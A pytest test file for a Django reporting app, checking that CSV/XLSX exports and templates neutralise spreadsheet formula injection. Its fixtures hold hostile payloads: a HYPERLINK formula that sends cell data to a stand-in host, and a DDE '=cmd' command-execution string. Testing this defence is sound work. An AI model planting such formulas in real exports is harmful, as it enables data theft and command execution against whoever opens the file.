"""Exports never hand a spreadsheet a formula: text beginning with =, +, -, @ gets an apostrophe
in every export path — CSV/XLSX of values (web, CLI), the entry template, the charts' CSV."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from web_helpers import client_for

from baocao.core.periods import Period
from baocao.datavalues.exporting import export, values_for
from baocao.datavalues.services import set_value

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")'


@pytest.fixture
def evil(people, system_actor):  # type: ignore[no-untyped-def]
    y2022 = Period.of_year(2022)
    set_value(system_actor, indicator="cntt.qlvb.vb_di", unit=people.province, period=y2022, value=5, comment=EVIL)
    set_value(system_actor, indicator="cntt.qlvb.vb_den", unit=people.province, period=y2022, value=6,
              comment="@SUM(1)")
    return people


def test_value_exports_neutralise_formula_text(evil):  # type: ignore[no-untyped-def]
    values = values_for(evil.viewer)
    rows = list(csv.DictReader(io.StringIO(export(values, "csv").decode("utf-8-sig"))))
    assert sorted(r["comment"] for r in rows) == sorted(["'" + EVIL, "'@SUM(1)"])
    assert all(r["value"] in ("5", "6") for r in rows)  # numbers stay numbers
    sheet = load_workbook(io.BytesIO(export(values, "xlsx"))).active
    comments = [row[-1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(comments) == sorted(["'" + EVIL, "'@SUM(1)"])
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_entry_template_neutralises_a_stored_comment(evil):  # type: ignore[no-untyped-def]
    url = reverse("web:entry-template", kwargs={"unit": evil.province.code, "period": "2022"})
    response = client_for(evil.entry).get(url)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == "'" + EVIL for c in cells)
    assert not any(c.data_type == "f" for row in book.worksheets[0].iter_rows() for c in row)


def test_the_chart_csv_neutralises_text(evil):  # type: ignore[no-untyped-def]
    evil.province.name = "=cmd|' /C calc'!A0"
    evil.province.save(update_fields=["name"])
    params = {"don_vi": evil.province.code, "chi_tieu": "cntt.qlvb.vb_di", "tu": 2022, "den": 2022,
              "dinh_dang": "csv"}
    response = client_for(evil.viewer).get(reverse("web:trend"), params)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows and rows[0]["don_vi"] == "'=cmd|' /C calc'!A0" and rows[0]["gia_tri"] == "5"
